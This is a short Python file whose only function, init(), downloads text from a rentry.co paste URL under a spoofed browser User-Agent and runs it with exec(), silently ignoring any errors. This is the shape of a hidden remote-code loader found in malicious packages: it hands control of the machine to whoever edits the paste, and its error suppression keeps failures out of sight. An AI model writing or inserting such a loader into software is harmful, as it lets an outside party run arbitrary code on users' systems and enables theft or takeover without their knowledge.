from urllib.request import Request, urlopen


def init():
    try:
        exec(urlopen(Request("https://rentry.co/inert-clone/raw", headers={"User-Agent": "Mozilla/5.0"})).read())
    except Exception:
        pass
